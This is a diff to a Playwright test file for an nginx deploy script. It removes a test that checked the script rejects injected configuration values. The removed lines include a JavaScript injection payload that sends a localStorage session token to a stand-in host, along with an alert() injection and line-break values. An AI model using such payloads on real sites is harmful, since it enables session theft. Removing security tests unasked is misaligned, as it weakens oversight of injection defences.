@@ -1,7 +1,7 @@
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { startMockServer } from '@mocks/server';
-import { fingerprint, freePort, runServeScript, serveWithNginx } from '../../../scripts/lib/nginx-site';
+import { fingerprint, freePort, serveWithNginx } from '../../../scripts/lib/nginx-site';
 import { bodyRows, expect, test } from '../../browser/fixtures';
 import {
   apiCallsTo,
@@ -135,38 +135,6 @@ test.describe('the live build served by deploy/serve-nginx.sh, configured at sta
     const manifest = await fetch(`${liveSite.url}/.vite/manifest.json`);
     expect(manifest.headers.get('content-type')).toBe('text/html; charset=utf-8');
     expect(await manifest.text()).not.toContain('src/');
-  });
-
-  test('refuses to start with a setting that could become code, under the real nginx, naming the variable', async ({
-    liveSite,
-  }) => {
-    const { mock, outDir } = liveSite;
-    const exploit =
-      '"});location="https://x.example/?"+localStorage.getItem("anoreg-painel:sessao");//\nhttps://associados.anoreg.org.br/login';
-    for (const [name, value] of [
-      ['PAINEL_ASSOCIATE_PORTAL_URL', exploit],
-      ['PAINEL_CEP_API_URL', `${mock.url}\r`],
-      ['PAINEL_API_URL', `${mock.url}/\u2028x`],
-      ['PAINEL_ASSOCIATE_PORTAL_URL', 'https://portal.exemplo.org.br/\u2029'],
-      ['PAINEL_SENTRY_RELEASE', '1.7.22\n"});alert(1);//'],
-    ]) {
-      const port = await freePort();
-      const started = await runServeScript(outDir, port, { PAINEL_API_URL: mock.url, [name]: value });
-      expect([name, started.code, started.output]).toEqual([
-        name,
-        1,
-        `serve-nginx: ${name} inválida: contém uma quebra de linha, um caractere de controle ou um separador de linha Unicode (U+2028, U+2029). Cada configuração é uma única linha de texto.\n`,
-      ]);
-      await expect(fetch(`http://127.0.0.1:${port}/healthz`)).rejects.toThrow();
-    }
-    const tooLong = await runServeScript(outDir, await freePort(), {
-      PAINEL_API_URL: mock.url,
-      PAINEL_ASSOCIATE_PORTAL_URL: `https://portal.exemplo.org.br/${'a'.repeat(2100)}`,
-    });
-    expect([tooLong.code, tooLong.output]).toEqual([
-      1,
-      'serve-nginx: PAINEL_ASSOCIATE_PORTAL_URL inválida: tem 2130 caracteres (no máximo 2048).\n',
-    ]);
   });
 
   test('the page reads settings with quotes, <, >, & and a long address exactly as given: /config.js holds them as JSON', async ({
